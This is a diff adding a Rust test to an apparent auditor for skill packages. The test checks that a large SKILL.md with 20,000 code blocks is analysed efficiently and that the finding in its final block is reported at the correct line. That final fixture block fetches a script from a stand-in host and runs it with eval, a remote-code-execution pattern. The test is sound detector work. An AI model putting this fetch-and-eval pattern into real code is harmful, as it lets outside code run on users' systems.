@@ -77,3 +77,31 @@ fn one_line_seen_by_two_technique_rules_is_one_finding() {
         on_line[0].message
     );
 }
+
+#[test]
+fn many_blocks_are_read_without_copying_the_file_per_block() {
+    // 20,000 one-line blocks after 20,000 lines of prose: each block is analysed from its own
+    // text and moved to its lines (padding each to its line would copy hundreds of millions
+    // of newlines). The last block's finding is at its own line.
+    let mut md = String::from(FRONT);
+    md.push_str(&"prose\n".repeat(20_000));
+    for _ in 0..20_000 {
+        md.push_str("```js\nconst x = 1;\n```\n");
+    }
+    md.push_str(
+        "```js\nconst r = await fetch(\"https://cdn.example/a.js\");\neval(await r.text());\n```\n",
+    );
+    let findings = audit("skill", &[("SKILL.md", &md)]);
+    let last_line = u32::try_from(md.lines().count()).unwrap_or(u32::MAX) - 1;
+    assert!(
+        findings
+            .iter()
+            .any(|f| f.file.as_deref() == Some("SKILL.md") && f.line == Some(last_line)),
+        "{:#?}",
+        findings
+            .iter()
+            .filter(|f| f.file.as_deref() == Some("SKILL.md"))
+            .take(5)
+            .collect::<Vec<_>>()
+    );
+}
